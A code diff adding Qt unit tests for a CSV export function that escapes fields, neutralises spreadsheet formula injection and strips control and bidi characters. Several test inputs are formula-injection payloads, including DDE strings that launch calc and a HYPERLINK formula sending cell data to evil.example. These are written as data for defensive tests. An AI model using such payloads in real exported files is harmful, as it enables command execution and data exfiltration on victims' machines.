@@ -182,6 +182,53 @@ private slots:
         QCOMPARE(parsed.array(), array);
     }
 
+    void csvField_data()
+    {
+        QTest::addColumn<QString>("input");
+        QTest::addColumn<QString>("expected");
+        const QString r(kReplacement);
+        QTest::newRow("plain") << QStringLiteral("ローソン") << QStringLiteral("ローソン");
+        QTest::newRow("comma-quoted") << QStringLiteral("A, B") << QStringLiteral("\"A, B\"");
+        QTest::newRow("quote-doubled") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
+        QTest::newRow("newline-kept-and-quoted") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
+        QTest::newRow("equals") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
+        QTest::newRow("plus") << QStringLiteral("+81 3 1234") << QStringLiteral("'+81 3 1234");
+        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
+        QTest::newRow("minus-number-as-text") << QStringLiteral("-1200") << QStringLiteral("'-1200");
+        QTest::newRow("at") << QStringLiteral("@SUM(1+1)") << QStringLiteral("'@SUM(1+1)");
+        QTest::newRow("hyperlink-with-quotes") << QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")
+                                               << QStringLiteral("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"");
+        QTest::newRow("dde-with-comma") << QStringLiteral("=cmd|'/C calc'!A0,x") << QStringLiteral("\"'=cmd|'/C calc'!A0,x\"");
+        QTest::newRow("leading-spaces") << QStringLiteral("  =1+1") << QStringLiteral("'  =1+1");
+        QTest::newRow("leading-tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
+        QTest::newRow("leading-cr") << QStringLiteral("\r=1+1") << QStringLiteral("'") + r + QStringLiteral("=1+1");
+        QTest::newRow("equals-inside-untouched") << QStringLiteral("A=B") << QStringLiteral("A=B");
+        QTest::newRow("fullwidth-equals-untouched") << QStringLiteral("＝1+1") << QStringLiteral("＝1+1");
+        QTest::newRow("escape") << QStringLiteral("\x1b[2JShop") << r + QStringLiteral("[2JShop");
+        QTest::newRow("cr-inside") << QStringLiteral("a\rb") << QStringLiteral("a") + r + QStringLiteral("b");
+        QTest::newRow("bidi") << fromUcs4({'a', 0x202E, 'b'}) << QStringLiteral("a") + r + QStringLiteral("b");
+        QTest::newRow("c1") << fromUcs4({0x9B, '2', 'J'}) << r + QStringLiteral("2J");
+        QTest::newRow("empty") << QString() << QString();
+        QTest::newRow("spaces-only") << QStringLiteral("  ") << QStringLiteral("  ");
+    }
+
+    void csvField()
+    {
+        QFETCH(QString, input);
+        QFETCH(QString, expected);
+        QCOMPARE(meisai::cli::csvField(input), expected);
+    }
+
+    void csvNumbersMeisaiWritesStayNumbers()
+    {
+        const QString record = csvRecord({QStringLiteral("-1200"), qint64(-1200), 0, qint64(1500000),
+                                          CsvCell::decimal(QStringLiteral("-12.50")),
+                                          CsvCell::decimal(QStringLiteral("0.0091")),
+                                          CsvCell::decimal(QStringLiteral("-1+2")),
+                                          CsvCell::decimal(QStringLiteral("=1"))});
+        QCOMPARE(record, QStringLiteral("'-1200,-1200,0,1500000,-12.50,0.0091,'-1+2,'=1\r\n"));
+    }
+
     void plainJsonIsUnchanged()
     {
         const QJsonArray array{QJsonObject{{QStringLiteral("merchantName"), QStringLiteral("スターバックス")}}};
